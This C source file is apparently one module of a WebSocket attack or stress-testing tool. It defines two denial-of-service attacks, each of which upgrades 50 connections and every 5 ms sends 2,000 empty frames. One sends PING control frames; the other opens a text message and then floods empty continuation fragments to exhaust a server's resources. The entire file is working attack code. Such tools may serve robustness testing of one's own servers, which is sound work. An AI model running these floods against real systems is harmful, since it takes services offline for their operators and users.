/* frames.c - as many small frames as the connection carries. */
/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <string.h>

enum { FRAME_SIZE = 6, FRAMES = 2000, WAITING_MAX = 1 << 16 };

/* Queues so many frames without a payload, one after the other. */
static void send_frames(struct attacker *attacker, struct conn *conn, unsigned first)
{
    char bytes[FRAMES * FRAME_SIZE] = {0};
    if (!attacker_of(attacker, conn)->is_upgraded || net_waiting(conn) > WAITING_MAX) {
        return;
    }
    for (size_t i = 0; i < sizeof bytes; i += FRAME_SIZE) {
        bytes[i] = (char)first;
        bytes[i + 1] = (char)0x80;
    }
    net_send(&attacker->net, conn, bytes, sizeof bytes);
}

static void on_tick_control(struct attacker *attacker, struct conn *conn)
{
    send_frames(attacker, conn, FRAME_FIN | OPCODE_PING);
}

const struct attack attack_control_frames = {
    .name = "control-frames",
    .width = 50,
    .tick_ms = 5,
    .on_open = attacker_upgrade,
    .on_tick = on_tick_control,
};

static void on_tick_fragments(struct attacker *attacker, struct conn *conn)
{
    struct attacked *attacked = attacker_of(attacker, conn);
    if (attacked->is_upgraded && attacked->step++ == 0) {
        websocket_send(&attacker->net, conn, OPCODE_TEXT, "{", 1);
    }
    send_frames(attacker, conn, OPCODE_CONTINUATION);
}

const struct attack attack_fragments = {
    .name = "fragments",
    .width = 50,
    .tick_ms = 5,
    .on_open = attacker_upgrade,
    .on_tick = on_tick_fragments,
};
